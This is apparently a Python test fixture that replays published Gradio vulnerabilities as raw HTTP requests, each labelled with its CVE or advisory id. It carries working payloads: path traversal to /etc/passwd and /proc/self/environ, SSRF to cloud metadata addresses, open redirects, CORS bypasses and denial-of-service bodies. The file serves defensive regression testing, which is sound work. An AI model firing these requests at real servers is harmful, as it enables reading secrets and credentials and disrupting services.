"""Replays of Gradio's published vulnerabilities, as bytes on the wire.

Nothing here is new: each names its advisory. What is of a kind that the pages have nothing of (a
login, shared tunnels, its build) is left out.
"""

import json
from typing import NamedTuple

HOST = b"Host: 127.0.0.1\r\n"
TYPE = b"Content-Type: application/json\r\n"
FILE = {"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}}
URL = {"path": "http://127.0.0.1:9/x.png", "url": "http://127.0.0.1:9/x.png"} | {
    "meta": {"_type": "gradio.FileData"}
}


class Sent(NamedTuple):
    """A request as it is sent. named: where it comes from. alone: on a connection of its own."""

    named: str
    raw: bytes
    alone: bool = True


def get(named: str, path: str, *headers: str, method: str = "GET") -> Sent:
    said = "".join(f"{header}\r\n" for header in headers).encode("latin-1")
    line = f"{method} {path} HTTP/1.1\r\n".encode("latin-1", "replace")
    host = b"" if said.lower().startswith(b"host:") else HOST
    return Sent(named, line + host + said + b"\r\n", alone=bool(headers))


def post(named: str, path: str, body: object, type: bytes = TYPE) -> Sent:
    sent = body if isinstance(body, bytes) else json.dumps(body).encode()
    length = f"Content-Length: {len(sent)}\r\n\r\n".encode()
    return Sent(named, f"POST {path} HTTP/1.1\r\n".encode() + HOST + type + length + sent, False)


def form(named: str, path: str, boundary: bytes, body: bytes) -> Sent:
    type = b"Content-Type: multipart/form-data; boundary=" + boundary + b"\r\n"
    return post(named, path, body, type)


API = "/gradio_api"
SERVER = f"{API}/component_server/"
MOVED = {"component_id": "1", "fn_name": "move_resource_to_block_cache", "session_hash": "a"}
PUT = b'--x\r\nContent-Disposition: form-data; name="files"; filename="%s"\r\n\r\nab\r\n--x--\r\n'


def vulnerabilities(function: str, others: list[object]) -> tuple[Sent, ...]:
    """function: that programs may call. others: its parameters' values, but for the first."""

    def joined(named: str, first: object) -> Sent:
        return post(named, f"{API}/call/{function}", {"data": [first, *others]})

    return (
        get("CVE-2023-34239 file", "/file=/etc/passwd"),
        get("CVE-2023-34239 proxy", "/proxy=http://127.0.0.1:9/"),
        get("CVE-2023-51449 traversal", "/file=/tmp/gradio/../../etc/passwd"),
        get("CVE-2023-51449 encoded", f"{API}/file=%2ftmp%2fgradio%2f..%2f..%2fetc%2fpasswd"),
        post("CVE-2024-0964 JSON", f"{API}/api/predict", {"data": [FILE], "fn_index": 0}),
        get("CVE-2024-1183 ports", "/file=http://127.0.0.1:9/"),
        post("CVE-2024-1561 method", SERVER, {**MOVED, "data": "/etc/passwd"}),
        joined("CVE-2024-1728 UploadButton", [FILE]),
        get("CVE-2024-2206 proxy", f"{API}/proxy=http://a.hf.space@127.0.0.1:9/"),
        joined("CVE-2024-4325 url", URL),
        joined("CVE-2024-4941 JSON", json.dumps(FILE)),
        get("CVE-2024-8021 redirect", f"{API}/file=https://example.com"),
        form("CVE-2024-8966 boundary", f"{API}/upload", b"x", b"--x" + b"-" * 2**20),
        form("CVE-2025-0187 name", f"{API}/upload", b"x", PUT % (b"a" * 2**20)),
        form("CVE-2024-47872 svg", f"{API}/upload", b"x", PUT % b"a.svg"),
        form("GHSA upload traversal", f"{API}/upload", b"x", PUT % b"../../a"),
        form("upload without a file", f"{API}/upload", b"x", b"--x\r\n\r\n{}\r\n--x--\r\n"),
        form("CVE-2024-1561 form", SERVER, b"x", PUT % b"a.png"),
        get("CVE-2024-12217 streams", f"{API}/file=C:/tmp/a.txt::$DATA"),
        get("CVE-2024-34510 share", f"{API}/file=//127.0.0.1/share"),
        get("CVE-2024-34511 IPv6", f"{API}/file=http://[::ffff:127.0.0.1]:9/"),
        get("CVE-2024-47084 CORS", "/config", "Origin: https://example.com", "Cookie: a=b"),
        get("CVE-2024-47165 null", "/config", "Origin: null"),
        get("CVE-2025-5320 alias", "/config", "Origin: http://localhost.example.com"),
        get("CVE-2024-47164 folder", f"{API}/file=/tmp/gradio/../gradio_secret/a"),
        get("CVE-2024-47166 component", f"{API}/custom_component/1/client/component/../a"),
        get("CVE-2024-47166 encoded", "/custom_component/1/client/component/%2e%2e%2fa"),
        joined("CVE-2024-47167 url", {"url": "http://169.254.169.254/latest/meta-data/"}),
        get("CVE-2024-47168 monitoring", "/monitoring/summary"),
        get("CVE-2024-47869 key", "/monitoring/a"),
        joined("CVE-2024-47868 leak", {"value": FILE, "__type__": "update"}),
        get("CVE-2024-47870 root", "/config", "X-Forwarded-Host: example.com/a?b"),
        joined("CVE-2024-48052 url", {"url": "file:///etc/passwd"}),
        joined("CVE-2024-51751 path", {"path": "/proc/self/environ"}),
        joined("CVE-2024-10569 bomb", {"data": [[1]], "headers": ["a"] * 10_000}),
        joined("CVE-2024-10624 dates", "0" * 100_000 + "now - 1d"),
        get("CVE-2025-23042 case", f"{API}/FILE=/ETC/PASSWD"),
        post("CVE-2025-48889 flag", f"{API}/api/flag", {"data": [FILE]}),
        get("CVE-2026-28414 absolute", "/static//etc/passwd"),
        get("CVE-2026-28414 encoded", "/static/%2fetc%2fpasswd"),
        get("CVE-2026-28415 redirect", "/login/callback?_target_url=https://example.com"),
        get("CVE-2026-28415 logout", "/logout?_target_url=https://example.com"),
        get("CVE-2026-28416 proxy", f"{API}/proxy=http://169.254.169.254/latest/"),
        post("GHSA-j36p-7w88-g82j", SERVER, {**MOVED, "fn_name": "ls", "data": ["/etc"]}),
        get("gradio 13593", f"{API}/file/https://example.com"),
        get("CVE-2025-62727 ranges", "/", "Range: bytes=" + ",".join(["0-"] * 1000)),
        get("deep link", "/?deep_link=../../etc/passwd"),
    )
